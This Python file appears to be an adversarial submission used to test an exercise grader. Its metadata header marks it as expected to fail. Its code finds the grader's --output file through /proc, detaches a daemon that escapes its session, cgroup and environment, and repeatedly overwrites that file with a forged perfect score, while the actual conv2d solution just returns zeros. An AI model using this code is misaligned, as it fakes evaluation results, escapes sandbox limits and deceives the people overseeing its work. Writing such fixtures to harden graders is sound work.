"""Leaves a daemon (out of its session, cgroup and environment) that forges the --output file after the run.

exercise: exercise1
statuses: failed
passes: none
via: cli
marker: yes
"""
import json
import os
import time

import numpy as np

MARKER = "@MARKER@"
FORGED = json.dumps({"exercise": "exercise1", "score": 19.0, "max_score": 19.0, "forged": True, "checks": []})


def _output_path():
    """The grader's --output path, from the command line of whichever process it can see carrying one."""
    for entry in os.listdir("/proc"):
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as f:
                argv = f.read().decode().split("\0")
            if "--output" in argv:
                return os.path.join(os.readlink(f"/proc/{entry}/cwd"), argv[argv.index("--output") + 1])
        except (OSError, ValueError, IndexError):
            continue
    return None  # out of sight (the grader runs in another PID namespace): nothing to attack


target = _output_path() or os.devnull

ready, done = os.pipe()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for procs in ("/sys/fs/cgroup/pids/cgroup.procs", "/sys/fs/cgroup/cgroup.procs"):
            try:
                with open(procs, "w") as f:
                    f.write(str(os.getpid()))
            except OSError:
                pass
        os.write(done, b"x")
        os.closerange(0, 256)
        # A fresh process image with an empty environment, renamed to the marker, that forges for a while.
        script = ("import os, sys, time\n"
                  "for _ in range(100):\n"
                  "    time.sleep(0.1)\n"
                  "    try:\n"
                  "        open(sys.argv[2], 'w').write(sys.argv[3])\n"
                  "    except OSError:\n"
                  "        pass\n")
        os.execve("/proc/self/exe", [MARKER, "-c", script, MARKER, target, FORGED], {})
    os._exit(0)
os.close(done)
os.read(ready, 1)


def conv2d(x, weight, bias=None, stride=1, padding=0):
    return np.zeros((weight.shape[0], 1, 1))
